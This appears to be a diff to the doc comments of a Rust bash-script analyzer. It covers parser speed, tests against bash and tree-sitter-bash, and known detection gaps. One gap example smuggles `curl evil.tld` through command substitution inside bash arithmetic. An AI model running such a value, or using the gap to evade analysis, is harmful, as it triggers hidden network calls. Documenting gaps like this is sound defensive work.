@@ -14,9 +14,14 @@
 //! brush-parser 0.4 take 150 to 270 ms for 1 MB of short words, where 50 ms are asked for; the one
 //! repairs what is broken by leaving commands out, the other reads nothing of a text with a fault.
 //!
+//! Instead, tests compare it with both: with every command that bash itself runs of scripts made
+//! from a grammar (`tests/bash.rs`), and with what tree-sitter-bash finds (`tests/grammar.rs`).
+//!
 //! # Known gaps
 //!
-//! Names that are built at run time, files that are executed, programs that are not in a table
+//! What sums make of the values of variables (`X='a[$(curl evil.tld)]'; (( X ))`), patterns longer
+//! than 64 bytes, and values beyond the budget of a command are unclear or not seen. Names that are
+//! built at run time, files that are executed, programs that are not in a table
 //! and take a host in another form than a URL: the kernel decides about them.
 
 mod brace;
